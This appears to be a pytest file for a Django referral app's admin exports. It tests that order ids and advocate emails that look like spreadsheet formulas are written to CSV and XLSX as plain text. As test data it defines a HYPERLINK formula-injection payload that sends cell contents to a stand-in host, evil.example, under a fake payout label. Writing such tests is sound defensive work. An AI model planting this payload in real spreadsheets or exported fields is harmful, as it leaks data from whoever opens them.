"""The admin listings' CSV and XLSX exports (orders, commissions, ledger, audit log, Stripe
events) write text others wrote: an order id from the merchant's store, an advocate's email.
A cell a spreadsheet would run as a formula (=HYPERLINK(...) and friends) is exported as text."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from referrals.models import Commission
from tests.factories import AdvocateFactory, OrderFactory, UserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your payout")'


def export(client, name: str, fmt: str):
    response = client.get(reverse(f"{name}:index"), {"export": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        body = b"".join(response.streaming_content).decode()
        return list(csv.reader(io.StringIO(body)))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def evil_commission():
    advocate = AdvocateFactory(user=UserFactory(email="@evil@example.com"))
    order = OrderFactory(external_id=EVIL, advocate=advocate)
    return Commission.objects.create(
        order=order,
        advocate=advocate,
        currency="EUR",
        base_amount=10_000,
        amount=1_000,
        status=Commission.Status.PENDING,
        hold_until=timezone.now(),
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_an_order_id_that_looks_like_a_formula_is_exported_as_text(manager, client, fmt, start):
    OrderFactory(external_id=f"{start}1+1")

    rows = export(client, "orders", fmt)

    (order_id,) = [cell for row in rows[1:] for cell in row if "1+1" in str(cell)]
    assert order_id.startswith("'")  # (XLSX reads a lone carriage return back as a newline)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_malicious_advocate_email_stays_text_in_the_commission_export(
    manager, client, evil_commission, fmt
):
    header, row = export(client, "commissions", fmt)

    exported = dict(zip(header, row, strict=True))
    assert EVIL in exported["Order"]  # "API order =HYPERLINK(...)": text already
    assert exported["Advocate"].startswith("'@evil@example.com")
    assert str(exported["Amount"]) == "1000"
